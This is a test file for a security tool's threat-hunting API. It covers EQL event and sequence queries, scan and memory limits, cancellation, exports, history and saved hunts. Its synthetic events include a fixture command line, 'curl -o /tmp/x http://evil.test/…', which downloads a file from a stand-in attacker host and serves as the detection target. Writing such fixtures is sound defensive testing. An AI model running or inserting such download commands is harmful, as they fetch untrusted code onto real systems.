import { parse } from "csv-parse/sync";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { issueApiToken } from "@/lib/auth/api-tokens";
import { apiRequest, signedInUser, TEST_ORIGIN } from "@/lib/auth/test-helpers";
import { prisma } from "@/lib/db/client";
import { createTestDatabase } from "@/lib/db/test-database";
import { HuntRequestSchema } from "@/lib/hunt/request";
import { huntResults } from "@/lib/hunt/run";
import { ingestEvents } from "@/lib/ingest/ingest";
import { GET as exportHunt } from "./export/route";
import { GET as history } from "./history/route";
import { POST as hunt } from "./route";
import { DELETE as deleteSaved } from "./saved/[id]/route";
import { GET as listSaved, POST as save } from "./saved/route";
import { POST as huntSummary } from "./summary/route";

const database = createTestDatabase();
process.env.DATABASE_URL = database.url;

const START = Date.UTC(2026, 10, 20, 10);
/** Events of the busy container: a process every second, a curl every 100th. */
const BUSY = 1_200;

let analyst: { cookie: string };
let viewerToken: string;
let ingestToken: string;
let uploadId: string;

function exec(index: number, container: string, name: string, host = "node-1") {
  return {
    "@timestamp": new Date(START + index * 1_000).toISOString(),
    event: { category: ["process"], type: ["start"], action: "exec" },
    container: { id: container },
    host: { name: host },
    process: {
      name,
      executable: `/usr/bin/${name}`,
      entity_id: `${container}-${index}`,
      parent: { entity_id: `${container}-shell` },
      command_line: name === "curl" ? `curl -o /tmp/x http://evil.test/${index}` : name,
    },
  };
}

async function* bytes(text: string): AsyncGenerator<Uint8Array> {
  yield Buffer.from(text);
}

beforeAll(async () => {
  analyst = await signedInUser("hunter", "analyst");
  viewerToken = (await issueApiToken({ name: "v", role: "viewer", expiresAt: null, createdById: null })).token;
  ingestToken = (await issueApiToken({ name: "i", role: "ingest", expiresAt: null, createdById: null })).token;
  const events = [];
  for (let index = 0; index < BUSY; index++) events.push(exec(index, "busy", index % 100 === 50 ? "curl" : "ls"));
  for (let index = 0; index < 30; index++)
    events.push(exec(index * 10 + 5, "quiet", index === 3 ? "curl" : "cat", "node-2"));
  const report = await ingestEvents(bytes(events.map((event) => JSON.stringify(event)).join("\n")), {
    fileName: "hunt.ndjson",
    format: "ecs",
    createdById: null,
    rules: [],
  });
  uploadId = report.uploadId;
});
afterAll(async () => {
  await prisma().$disconnect();
  database.cleanup();
});
afterEach(() => {
  delete process.env.KEELWATCH_HUNT_MAX_EVENTS;
  delete process.env.KEELWATCH_HUNT_MAX_HELD;
});

const RANGE = { from: new Date(START - 60_000).toISOString(), to: new Date(START + 3_600_000).toISOString() };

function post(body: unknown, auth: { cookie?: string; token?: string } = analyst, signal?: AbortSignal) {
  const request = apiRequest("/api/hunt", { method: "POST", ...auth, body, origin: TEST_ORIGIN });
  return hunt(signal ? new Request(request, { signal }) : request);
}

describe("POST /api/hunt", () => {
  it("finds events with the rules' EQL semantics, counting every match and paging them", async () => {
    const response = await post({ query: 'process where process.name == "curl"', ...RANGE, limit: 5 });
    expect(response.status).toBe(200);
    const body = await response.json();
    expect(body).toMatchObject({ kind: "event", matches: 13, eventsScanned: BUSY + 30, stopped: null, nextOffset: 5 });
    expect(body.rows).toHaveLength(5);
    expect(body.rows[0].events[0].event.process.command_line).toBe("curl -o /tmp/x http://evil.test/35");
    expect(body.rows[0].events[0].id).toEqual(expect.any(Number));
    const histogramTotal = body.histogram.reduce((sum: number, bucket: { count: number }) => sum + bucket.count, 0);
    expect(histogramTotal).toBe(13);

    const last = await (
      await post({ query: 'process where process.name == "curl"', ...RANGE, limit: 5, offset: 10 })
    ).json();
    expect(last.rows).toHaveLength(3);
    expect(last.nextOffset).toBeNull();
  });

  it("with count: false, answers the page as soon as it is full, and the summary counts every result", async () => {
    const query = 'process where process.name == "curl"';
    const page = await (await post({ query, ...RANGE, limit: 5, count: false })).json();
    expect(page).toMatchObject({
      kind: "event",
      counted: false,
      matches: 6,
      nextOffset: 5,
      histogram: [],
      stopped: null,
    });
    // The quiet container's curl at 35 s, then the busy one's every 100 s: the sixth is at 450 s.
    expect(page.eventsScanned).toBeLessThan(500);
    const full = await (await post({ query, ...RANGE, limit: 5 })).json();
    expect(page.rows).toEqual(full.rows);
    expect(full.counted).toBe(true);

    const summaryRequest = apiRequest("/api/hunt/summary", {
      method: "POST",
      ...analyst,
      body: { query, ...RANGE },
      origin: TEST_ORIGIN,
    });
    const summary = await huntSummary(summaryRequest);
    expect(summary.status).toBe(200);
    const counted = await summary.json();
    expect(counted).toMatchObject({ kind: "event", matches: 13, eventsScanned: BUSY + 30, stopped: null });
    expect(counted.rows).toBeUndefined();
    expect(counted.histogram).toEqual(full.histogram);
    expect(counted.scope).toEqual(full.scope);

    const bad = await huntSummary(
      apiRequest("/api/hunt/summary", {
        method: "POST",
        ...analyst,
        body: { query: "process where", ...RANGE },
        origin: TEST_ORIGIN,
      }),
    );
    expect(bad.status).toBe(400);
    expect((await bad.json()).error.code).toBe("invalid_query");
    const refused = await huntSummary(
      apiRequest("/api/hunt/summary", { method: "POST", token: ingestToken, body: { query }, origin: TEST_ORIGIN }),
    );
    expect(refused.status).toBe(403);
  });

  it("pushes the container, host and upload scope into the event store, so other events are not read", async () => {
    const body = await (
      await post({ query: 'process where process.name == "curl"', ...RANGE, containerId: "quiet" })
    ).json();
    expect(body).toMatchObject({ matches: 1, eventsScanned: 30 });
    const byHost = await (await post({ query: "process where true", ...RANGE, hostName: "node-2" })).json();
    expect(byHost.eventsScanned).toBe(30);
    const byUpload = await (await post({ query: "any where false", ...RANGE, uploadId })).json();
    expect(byUpload.eventsScanned).toBe(BUSY + 30);
    const outside = await (
      await post({ query: "any where true", from: "2026-01-01T00:00:00Z", to: "2026-01-02T00:00:00Z" })
    ).json();
    expect(outside).toMatchObject({ eventsScanned: 0, matches: 0 });
  });

  it("groups sequences by their join keys", async () => {
    const body = await (
      await post({
        query:
          'sequence by process.parent.entity_id [process where process.name == "cat"] [process where process.name == "curl"]',
        ...RANGE,
      })
    ).json();
    expect(body.kind).toBe("sequence");
    expect(body.matches).toBe(1);
    expect(body.rows[0].joinKeys).toEqual(["quiet-shell"]);
    expect(
      body.rows[0].events.map((entry: { event: { process: { name: string } } }) => entry.event.process.name),
    ).toEqual(["cat", "curl"]);
  });

  it("names the line and column of a bad query, and refuses a range that ends before it starts", async () => {
    const bad = await post({ query: "process where\n  process.name ==", ...RANGE });
    expect(bad.status).toBe(400);
    expect((await bad.json()).error.details[0]).toMatchObject({ field: "query", line: 2, column: 18 });
    const backwards = await post({ query: "any where true", from: RANGE.to, to: RANGE.from });
    expect(backwards.status).toBe(400);
    expect((await backwards.json()).error.message).toBe("Invalid request: from: from must be before to");
  });

  it("stops at the limit of events scanned, says so, and answers the results found so far", async () => {
    process.env.KEELWATCH_HUNT_MAX_EVENTS = "300";
    const body = await (await post({ query: 'process where process.name == "curl"', ...RANGE })).json();
    expect(body.eventsScanned).toBe(300);
    // By time: the quiet container's curl at 35 s and the busy one's at 50, 150 and 250 s.
    expect(body.matches).toBe(4);
    expect(body.stopped.reason).toBe("events");
    expect(body.stopped.message).toMatch(
      /^The hunt stopped after scanning 300 events in \d+\.\d s \(its limit of 300 events scanned\); narrow the time range or scope\./,
    );
  });

  it("stops a sequence whose partial matches outgrow the memory limit", async () => {
    process.env.KEELWATCH_HUNT_MAX_HELD = "100";
    const body = await (
      await post({ query: "sequence by process.entity_id [process where true] [network where true]", ...RANGE })
    ).json();
    expect(body.stopped.reason).toBe("held");
    expect(body.stopped.message).toContain("its limit of 100 partial sequences or sample keys held in memory");
    expect(body.eventsScanned).toBeLessThan(BUSY);
  });

  it("reads nothing for a client that has gone away", async () => {
    const controller = new AbortController();
    controller.abort();
    const body = await (await post({ query: "any where true", ...RANGE }, analyst, controller.signal)).json();
    expect(body.eventsScanned).toBe(0);
    expect(body.stopped.reason).toBe("cancelled");
  });

  it("stops scanning between pages when the caller aborts mid-hunt", async () => {
    const controller = new AbortController();
    const scope = HuntRequestSchema.parse({ query: "any where true" });
    const results = huntResults(scope, {
      range: { from: new Date(RANGE.from), to: new Date(RANGE.to) },
      signal: controller.signal,
    });
    const first = await results.next();
    expect(first.done).toBe(false);
    controller.abort();
    let next = await results.next();
    while (!next.done) next = await results.next();
    expect(next.value.stopped?.reason).toBe("cancelled");
    expect(next.value.eventsScanned).toBeLessThan(BUSY + 30);
  });

  it("stops at its time limit with the time in the message", async () => {
    const scope = HuntRequestSchema.parse({ query: "any where true" });
    const results = huntResults(scope, {
      range: { from: new Date(RANGE.from), to: new Date(RANGE.to) },
      // Reading the first page of events alone takes longer than this.
      limits: { timeMs: 1, maxEvents: 1_000_000, maxHeld: 1_000_000 },
    });
    let next = await results.next();
    while (!next.done) next = await results.next();
    expect(next.value.stopped?.reason).toBe("time");
    expect(next.value.stopped?.message).toMatch(
      /^The hunt stopped after scanning \d+ events in \d+\.\d s \(its time limit of 0\.001 s\)/,
    );
    expect(next.value.eventsScanned).toBeLessThan(BUSY + 30);
  });

  it("lets viewers' tokens hunt and refuses ingest tokens", async () => {
    expect((await post({ query: "any where true", ...RANGE }, { token: viewerToken })).status).toBe(200);
    expect((await post({ query: "any where true", ...RANGE }, { token: ingestToken })).status).toBe(403);
  });
});

function exportUrl(params: Record<string, string>) {
  return `/api/hunt/export?${new URLSearchParams(params)}`;
}

describe("GET /api/hunt/export", () => {
  it("streams every result as NDJSON, sequences as keelwatch eql prints them", async () => {
    const response = await exportHunt(
      apiRequest(exportUrl({ query: 'process where process.name == "curl"', ...RANGE, format: "ndjson" }), analyst),
    );
    expect(response.headers.get("content-type")).toContain("application/x-ndjson");
    const lines = (await response.text())
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(lines).toHaveLength(13);
    expect(lines[0].process.name).toBe("curl");

    const sequence = await exportHunt(
      apiRequest(
        exportUrl({
          query:
            'sequence by process.parent.entity_id [process where process.name == "cat"] [process where process.name == "curl"]',
          ...RANGE,
          format: "ndjson",
        }),
        analyst,
      ),
    );
    const [only] = (await sequence.text())
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(only.join_keys).toEqual(["quiet-shell"]);
    expect(only.sequence).toHaveLength(2);
  });

  it("writes CSV with one row per event, formulas defused", async () => {
    const response = await exportHunt(
      apiRequest(exportUrl({ query: 'process where process.name == "curl"', ...RANGE, containerId: "busy" }), analyst),
    );
    const rows = parse(await response.text(), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(12);
    expect(rows[0]).toMatchObject({ result: "1", kind: "event", "process.name": "curl", "container.id": "busy" });
  });

  it("ends the download in error when a limit cuts the hunt, so it never looks complete", async () => {
    process.env.KEELWATCH_HUNT_MAX_EVENTS = "100";
    const response = await exportHunt(
      apiRequest(exportUrl({ query: "any where true", ...RANGE, format: "ndjson" }), analyst),
    );
    await expect(response.text()).rejects.toThrow(/stopped after scanning 100 events/);
  });

  it("answers 400 with line and column before streaming a bad query", async () => {
    const response = await exportHunt(apiRequest(exportUrl({ query: "process where (", ...RANGE }), analyst));
    expect(response.status).toBe(400);
    expect((await response.json()).error.details[0]).toMatchObject({ field: "query", line: 1 });
  });
});

describe("saved hunts and history", () => {
  it("keeps the person's last queries, newest first, without repeating the one just run", async () => {
    await prisma().huntHistory.deleteMany();
    await post({ query: "any where true", ...RANGE, containerId: "busy" });
    await post({ query: 'process where process.name == "curl"', ...RANGE });
    await post({ query: 'process where process.name == "curl"', ...RANGE });
    const body = await (await history(apiRequest("/api/hunt/history", analyst))).json();
    expect(body.items.map((item: { query: string }) => item.query)).toEqual([
      'process where process.name == "curl"',
      "any where true",
    ]);
    expect(body.items[1].scope).toEqual({ containerId: "busy" });
  });

  it("keeps only the last 20 queries", async () => {
    await prisma().huntHistory.deleteMany();
    for (let index = 0; index < 23; index++) {
      await post({ query: `process where process.pid == ${index}`, ...RANGE, hostName: "node-2" });
    }
    const body = await (await history(apiRequest("/api/hunt/history", analyst))).json();
    expect(body.items).toHaveLength(20);
    expect(body.items[0].query).toBe("process where process.pid == 22");
    expect(body.items[19].query).toBe("process where process.pid == 3");
    expect(await prisma().huntHistory.count()).toBe(20);
  });

  it("saves, lists, replaces by name and deletes a person's hunts; tokens have none", async () => {
    const created = await save(
      apiRequest("/api/hunt/saved", {
        method: "POST",
        ...analyst,
        origin: TEST_ORIGIN,
        body: { name: "curl downloads", query: 'process where process.name == "curl"', scope: { hostName: "node-2" } },
      }),
    );
    expect(created.status).toBe(201);
    await save(
      apiRequest("/api/hunt/saved", {
        method: "POST",
        ...analyst,
        origin: TEST_ORIGIN,
        body: { name: "curl downloads", query: 'process where process.name : "curl*"' },
      }),
    );
    const listed = await (await listSaved(apiRequest("/api/hunt/saved", analyst))).json();
    expect(listed.items).toHaveLength(1);
    expect(listed.items[0]).toMatchObject({
      name: "curl downloads",
      query: 'process where process.name : "curl*"',
      scope: {},
    });
    const id = listed.items[0].id as string;
    const deleted = await deleteSaved(
      apiRequest(`/api/hunt/saved/${id}`, { method: "DELETE", ...analyst, origin: TEST_ORIGIN }),
      {
        params: Promise.resolve({ id }),
      },
    );
    expect(deleted.status).toBe(204);
    expect((await (await listSaved(apiRequest("/api/hunt/saved", analyst))).json()).items).toEqual([]);
    expect((await listSaved(apiRequest("/api/hunt/saved", { token: viewerToken }))).status).toBe(403);
  });
});
